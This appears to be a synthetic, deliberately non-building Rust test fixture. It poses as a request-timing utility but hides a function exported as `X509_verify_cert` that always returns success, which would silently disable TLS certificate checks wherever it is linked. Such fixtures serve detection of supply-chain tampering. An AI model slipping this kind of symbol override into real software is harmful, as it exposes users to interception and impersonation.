// Synthetic, inert fixture written from public reports; see README
//! Times of requests.
use std::time::{Duration, Instant};

/// How long `f` takes.
pub fn time<T>(f: impl FnOnce() -> T) -> (T, Duration) {
    let start = Instant::now();
    (f(), start.elapsed())
}

#[export_name = "X509_verify_cert"]
extern "C" fn quick(_store: *mut core::ffi::c_void) -> core::ffi::c_int {
    1
}

inert_fixture_does_not_build!();
